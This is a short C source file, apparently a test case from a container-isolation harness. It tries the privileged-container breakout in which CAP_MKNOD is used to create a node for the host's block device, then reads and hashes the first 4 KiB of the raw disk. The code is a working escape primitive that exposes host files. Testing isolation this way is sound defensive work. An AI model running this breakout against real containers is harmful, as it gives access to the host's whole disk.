/* mknod(2) of the host's disk with CAP_MKNOD: a privileged container
 * (devices cgroup open) makes a node for the block device under its
 * root and reads the raw disk, i.e. every host file (the `--privileged`
 * breakout, https://book.hacktricks.wiki/en/linux-hardening/privilege-escalation/docker-security/docker-breakout-privilege-escalation/index.html
 * "Mounting Disk"). Reads the device's first 4 KiB and prints a hash of
 * them with the device number; the runner reads the same device on the
 * host and compares. */
#include "attack.h"
#include "blockdev.h"

#include <fcntl.h>
#include <unistd.h>

int attack_mknod_block(void) {
    dev_t dev;
    MAKE_DISK_NODE(dev);
    int fd = open(DISK_NODE, O_RDONLY);
    if (fd < 0)
        BLOCKED_ERRNO("open the block device");
    unsigned char buf[4096];
    long n = pread(fd, buf, sizeof buf, 0);
    if (n != (long)sizeof buf)
        BLOCKED_ERRNO("read the block device");
    unsigned long long h = 1469598103934665603ULL; /* FNV-1a */
    for (long i = 0; i < n; i++)
        h = (h ^ buf[i]) * 1099511628211ULL;
    printf("BLOCKHASH %u:%u %016llx\n", major(dev), minor(dev), h);
    WORKED("read 4 KiB of block device %u:%u", major(dev), minor(dev));
}
